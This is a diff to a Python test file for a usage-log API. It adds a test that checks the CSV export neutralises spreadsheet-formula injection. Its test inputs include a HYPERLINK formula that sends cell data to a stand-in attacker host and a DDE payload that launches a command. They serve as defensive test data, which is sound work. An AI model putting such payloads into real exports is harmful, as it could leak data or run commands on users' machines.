@@ -151,6 +151,29 @@ def test_csv_export(api, logs) -> None:  # type: ignore[no-untyped-def]
     assert "cost_usd" in rows[0]
 
 
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_start_like_a_formula_are_neutralised(api, hostile) -> None:  # type: ignore[no-untyped-def]
+    key = ApiKey.issue(hostile)[0]
+    UsageLog.objects.create(
+        request_id="evil", api_key=key, model=hostile, route=hostile, provider="p", status="ok"
+    )
+    rows = list(csv.DictReader(io.StringIO(api.get("/api/usage?format=csv").content.decode())))
+    (row,) = rows
+    for column in ("model", "route", "key"):
+        assert row[column] == "'" + hostile, column
+    assert row["prompt_tokens"] == "0" and row["cost_usd"] == "0.0"  # numbers untouched
+
+
 def test_a_bare_until_date_covers_that_whole_day(api, logs) -> None:  # type: ignore[no-untyped-def]
     today = timezone.now().date().isoformat()
     items = api.get(f"/api/usage?until={today}").json()["items"]
